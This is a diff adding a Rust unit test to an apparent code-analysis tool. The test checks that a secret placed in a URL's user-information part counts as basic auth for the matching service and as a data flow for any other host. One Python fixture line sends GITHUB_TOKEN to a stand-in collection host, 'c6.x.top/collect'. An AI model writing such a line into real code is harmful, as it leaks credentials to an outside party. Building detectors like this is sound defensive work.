@@ -1392,3 +1392,49 @@ def main():
         "{k:?}"
     );
 }
+
+/// A secret written into a URL before its host (`f"https://oauth2:{token}@gitlab.com/…"`) is
+/// basic auth: to the service it belongs to, credential use; to a host it does not belong
+/// to, exfiltration to that host. Values after the host stay what the URL sends.
+#[test]
+fn a_secret_in_a_urls_user_information_is_basic_auth() {
+    let f = facts(
+        r#"import os
+import requests
+
+requests.get(f"https://oauth2:{os.environ['GITLAB_TOKEN']}@gitlab.com/api/v4/user")
+requests.get("https://x-access-token:" + os.environ["GITHUB_TOKEN"] + "@api.github.com/user")
+"#,
+    );
+    assert!(f.flows.is_empty(), "{:#?}", f.flows);
+    assert_eq!(f.credential_uses.len(), 2, "{:#?}", f.credential_uses);
+    assert!(
+        f.credential_uses
+            .iter()
+            .all(|u| u.position.contains("basic auth") && u.host.is_some()),
+        "{:#?}",
+        f.credential_uses
+    );
+    let f = facts(
+        r#"import os
+import requests
+
+requests.get(f"https://u:{os.environ['GITHUB_TOKEN']}@c6.x.top/collect")
+requests.get(f"https://api.github.com/users/{os.environ['GITHUB_TOKEN']}")
+"#,
+    );
+    assert_eq!(f.flows.len(), 2, "{:#?}", f.flows);
+    assert!(
+        f.flows
+            .iter()
+            .all(|fl| fl.kinds.contains(DataKind::SecretEnv)),
+        "{:#?}",
+        f.flows
+    );
+    assert!(
+        f.flows.iter().any(|fl| fl.endpoints == ["c6.x.top"]),
+        "{:#?}",
+        f.flows
+    );
+    assert!(f.credential_uses.is_empty(), "{:#?}", f.credential_uses);
+}
